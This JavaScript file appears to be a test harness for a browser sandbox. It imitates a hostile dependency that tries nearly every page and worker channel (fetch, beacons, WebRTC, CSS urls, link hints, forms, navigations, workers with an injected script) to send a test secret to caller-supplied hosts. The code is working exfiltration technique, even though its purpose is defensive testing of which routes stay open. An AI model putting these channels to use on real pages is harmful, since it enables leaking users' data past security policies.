// What a hostile dependency would try: every way known by which a page or a worker may tell somebody something. Runs in a page, in front
// of its own script, so that it keeps what the browser had before anything was taken away.
//
// `to` is where: { host, http, https, ws, stun, turn, quic }, each with the route's name in the host's name.

(() => {
  const own = {};
  for (const name of ['fetch', 'fetchLater', 'XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'EventSource', 'WebTransport', 'RTCPeerConnection', 'Worker', 'SharedWorker', 'XSLTProcessor', 'open', 'Blob']) own[name] = globalThis[name];
  for (const name of ['fetch', 'fetchLater', 'open']) own[name] = own[name]?.bind(globalThis);
  const { createElement, createElementNS } = Document.prototype;
  const beacon = Navigator.prototype.sendBeacon;
  const { setHTML, setHTMLUnsafe } = Element.prototype;
  const define = CustomElementRegistry.prototype.define;
  const SVG = 'http://www.w3.org/2000/svg';
  const SECRET = 'Anna Berg, 31';

  /** Runs first in every worker that the page makes. */
  const inWorker = (() => {
    const ways = {
      fetch: (to) => fetch(to.http, { mode: 'no-cors' }),
      XMLHttpRequest: (to) => { const request = new XMLHttpRequest(); request.open('GET', to.http); request.send(); },
      WebSocket: (to) => new WebSocket(to.ws),
      EventSource: (to) => new EventSource(to.http),
      importScripts: (to) => importScripts(to.http),
      'import()': (to) => import(to.http),
      'worker of a worker': (to) => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to.http)}, { mode: 'no-cors' })`]))),
      WebTransport: (to) => new WebTransport(to.quic).ready,
      'font in a worker': (to) => new FontFace('f', `url(${to.http})`).load(),
    };
    addEventListener('message', (event) => {
      if (!event.data?.attack) return;
      event.stopImmediatePropagation();
      for (const [name, to] of event.data.attack) Promise.resolve().then(() => ways[name](to)).catch(() => {});
    });
  }).toString();

  const workers = [];
  if (own.Worker) {
    globalThis.Blob = class extends own.Blob {
      constructor(parts, options) {
        super(options?.type === 'text/javascript' ? [`(${inWorker})();`, ...parts] : parts, options);
      }
    };
    globalThis.Worker = class extends own.Worker {
      constructor(...all) {
        super(...all);
        workers.push(this);
      }
    };
  }

  const make = (tag, attributes = {}, place = document.body) => put(createElement.call(document, tag), attributes, place);
  const svg = (tag, attributes, place) => put(createElementNS.call(document, SVG, tag), attributes, place);
  const put = (element, attributes, place) => {
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    place?.append(element);
    return element;
  };
  const link = (attributes) => make('link', attributes, document.head);
  const style = (text) => (make('style', {}, document.head).textContent = text);
  const peer = async (server) => {
    const connection = new own.RTCPeerConnection({ iceServers: [server] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
  };

  const page = {
    fetch: (to) => own.fetch(to.http, { mode: 'no-cors' }),
    'fetch, POST': (to) => own.fetch(to.http, { method: 'POST', mode: 'no-cors', body: SECRET }),
    'fetch, keepalive': (to) => own.fetch(to.http, { keepalive: true, mode: 'no-cors' }),
    fetchLater: (to) => own.fetchLater(to.https, { activateAfter: 0 }),
    XMLHttpRequest: (to) => { const request = new own.XMLHttpRequest(); request.open('GET', to.http); request.send(); },
    sendBeacon: (to) => beacon.call(navigator, to.http, SECRET),
    WebSocket: (to) => new own.WebSocket(to.ws),
    WebSocketStream: (to) => new own.WebSocketStream(to.ws),
    EventSource: (to) => new own.EventSource(to.http),
    WebTransport: (to) => new own.WebTransport(to.quic).ready,
    'WebRTC, STUN': (to) => peer({ urls: to.stun }),
    'WebRTC, TURN': (to) => peer({ urls: to.turn, username: SECRET, credential: 'x' }),
    'new Image': (to) => (new Image().src = to.http),
    img: (to) => make('img', { src: to.http }),
    'img, srcset': (to) => make('img', { srcset: `${to.http} 2x` }),
    'picture, source': (to) => { const picture = make('picture'); make('source', { srcset: to.http }, picture); make('img', {}, picture); },
    'input, type image': (to) => make('input', { type: 'image', src: to.http }),
    'svg image': (to) => svg('image', { href: to.http, width: 5, height: 5 }, svg('svg', {}, document.body)),
    'svg use': (to) => svg('use', { href: `${to.http}#a` }, svg('svg', {}, document.body)),
    'svg feImage': (to) => { const root = svg('svg', {}, document.body); svg('feImage', { href: to.http }, svg('filter', { id: 'fe' }, root)); svg('rect', { filter: 'url(#fe)', width: 5, height: 5 }, root); },
    'svg script': (to) => svg('script', { href: to.http }, svg('svg', {}, document.body)),
    video: (to) => make('video', { src: to.http, preload: 'auto' }),
    'video, poster': (to) => make('video', { poster: to.http }),
    audio: (to) => make('audio', { src: to.http, preload: 'auto' }),
    'video, track': (to) => { const video = make('video', { src: 'data:video/mp4,', crossorigin: 'anonymous' }); make('track', { src: to.http, default: '', kind: 'captions' }, video); video.textTracks[0].mode = 'showing'; },
    'css background': (to) => make('div', { style: `width:5px;height:5px;background:url(${to.http})` }),
    'css @import': (to) => style(`@import "${to.http}";`),
    'css @font-face': (to) => { style(`@font-face{font-family:leak;src:url(${to.http})}`); make('p', { style: 'font-family:leak' }).textContent = 'x'; },
    'css image of content': (to) => { style(`.leak::before{content:url(${to.http})}`); make('p', { class: 'leak' }); },
    'css mask': (to) => make('div', { style: `width:5px;height:5px;background:red;mask-image:url(${to.http})` }),
    'css cursor': (to) => make('div', { style: `cursor:url(${to.http}),auto` }),
    'css list style': (to) => make('li', { style: `list-style-image:url(${to.http})` }),
    'sheet adopted': (to) => { const sheet = new CSSStyleSheet(); sheet.replaceSync(`body{background-image:url(${to.http})}`); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]; },
    FontFace: (to) => new FontFace('leak2', `url(${to.http})`).load(),
    script: (to) => make('script', { src: to.http }),
    'script, module': (to) => make('script', { src: to.http, type: 'module' }),
    'script, speculation rules': (to) => (make('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to.http], requires: ['anonymous-client-ip-when-cross-origin'] }, { source: 'list', urls: [to.http] }] })),
    'script, import map': (to) => { make('script', { type: 'importmap' }).textContent = JSON.stringify({ imports: { leak: to.http } }); return import('leak'); },
    'import()': (to) => import(to.http),
    'attribute with code': (to) => make('div', { onclick: `fetch(${JSON.stringify(to.http)})` }).click(),
    'timer with code': (to) => setTimeout(`fetch(${JSON.stringify(to.http)}, { mode: 'no-cors' })`),
    iframe: (to) => make('iframe', { src: to.http }),
    'iframe, srcdoc': (to) => make('iframe', { srcdoc: `<img src="${to.http}">` }),
    'iframe, world of its own': (to) => make('iframe').contentWindow.fetch(to.http, { mode: 'no-cors' }),
    object: (to) => make('object', { data: to.http }),
    embed: (to) => make('embed', { src: to.http }),
    'link prefetch': (to) => link({ rel: 'prefetch', href: to.http }),
    'link preload': (to) => link({ rel: 'preload', as: 'image', href: to.http }),
    'link modulepreload': (to) => link({ rel: 'modulepreload', href: to.http }),
    'link stylesheet': (to) => link({ rel: 'stylesheet', href: to.http }),
    'link icon': (to) => link({ rel: 'icon', href: to.http }),
    'link manifest': (to) => link({ rel: 'manifest', href: to.http }),
    'link dns-prefetch': (to) => link({ rel: 'dns-prefetch', href: to.http }),
    'link preconnect': (to) => link({ rel: 'preconnect', href: to.http }),
    'link there, changed': (to) => put(document.querySelector('link').cloneNode(), { rel: 'dns-prefetch', href: to.http }, document.head),
    'link made as a class': (to) => { class Leak extends HTMLLinkElement {} define.call(customElements, 'x-leak', Leak, { extends: 'link' }); put(new Leak(), { rel: 'dns-prefetch', href: to.http }, document.head); },
    innerHTML: (to) => (make('div').innerHTML = `<img src="${to.http}">`),
    setHTML: (to) => setHTML.call(make('div'), `<img src="${to.http}">`),
    setHTMLUnsafe: (to) => setHTMLUnsafe.call(make('div'), `<link rel="preconnect" href="${to.http}"><img src="${to.http}">`),
    insertHTML: (to) => { const box = make('div', { contenteditable: 'true' }); box.focus(); document.execCommand('insertHTML', false, `<img src="${to.http}">`); },
    DOMParser: (to) => document.body.append(document.adoptNode(new DOMParser().parseFromString(`<img src="${to.http}">`, 'text/html').body.firstChild)),
    XSLTProcessor: (to) => { const text = `<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><p><x:copy-of select="document('${to.http}')"/></p></x:template></x:stylesheet>`; const made = new own.XSLTProcessor(); made.importStylesheet(new DOMParser().parseFromString(text, 'text/xml')); made.transformToFragment(document, document); },
    SharedWorker: (to) => new own.SharedWorker(URL.createObjectURL(new own.Blob([`fetch(${JSON.stringify(to.http)}, { mode: 'no-cors' })`]))),
    'worker by its address': (to) => new own.Worker(to.http),
    'worker of one\'s own': (to) => new own.Worker(URL.createObjectURL(new own.Blob([`fetch(${JSON.stringify(to.http)}, { mode: 'no-cors' })`]))),
    AudioWorklet: (to) => new AudioContext().audioWorklet.addModule(to.http),
    MediaSession: (to) => { navigator.mediaSession.metadata = new MediaMetadata({ title: SECRET, artwork: [{ src: to.http }] }); },
    ping: (to) => make('a', { href: '#', ping: to.http }).click(),
  };

  const move = {
    'location.href': (to) => (location.href = to.http),
    'location.assign': (to) => location.assign(to.http),
    'location.replace': (to) => location.replace(to.http),
    'navigation.navigate': (to) => navigation.navigate(to.http),
    'meta refresh': (to) => make('meta', { 'http-equiv': 'refresh', content: `0;url=${to.http}` }, document.head),
    'meta there, changed': (to) => put(document.querySelector('meta[name]').cloneNode(), { 'http-equiv': 'refresh', content: `0;url=${to.http}` }, document.head),
    'a link': (to) => make('a', { href: to.http }).click(),
    'a link to download': (to) => make('a', { href: to.http, download: 'x' }).click(),
    'a link to a new tab': (to) => make('a', { href: to.http, target: '_blank' }).click(),
    'a link in svg': (to) => svg('a', { href: to.http }, svg('svg', {}, document.body)).dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })),
    'an area': (to) => make('area', { href: to.http }, make('map')).click(),
    'form, GET': (to) => { const form = make('form', { action: to.http }); make('input', { name: 'x', value: SECRET }, form); form.submit(); },
    'form, POST': (to) => { const form = make('form', { action: to.http, method: 'post' }); make('input', { name: 'x', value: SECRET }, form); form.requestSubmit(); },
    'window.open': (to) => own.open(to.http),
    'top.location': (to) => (top.location = to.http),
    'parent.location': (to) => (parent.location = to.http),
    'location of a child': (to) => { const frame = make('iframe'); frame.contentWindow.location = to.http; },
    'a page made here': (to) => (location.href = URL.createObjectURL(new own.Blob([`<img src="${to.http}">`], { type: 'text/html' }))),
    'javascript: address': (to) => (location.href = `javascript:void fetch(${JSON.stringify(to.http)}, { mode: 'no-cors' })`),
    'document.write': (to) => document.write(`<img src="${to.http}">`),
  };

  globalThis.attack = {
    names: { page: Object.keys(page), move: Object.keys(move), worker: ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'import()', 'worker of a worker', 'WebTransport', 'font in a worker'] },
    workers,
    /** Takes routes; a way that throws is one that is closed. */
    start(kind, list) {
      if (kind === 'worker') return workers[0].postMessage({ attack: list });
      for (const [name, to] of list) Promise.resolve().then(() => ({ page, move })[kind][name](to)).catch(() => {});
    },
  };
})();
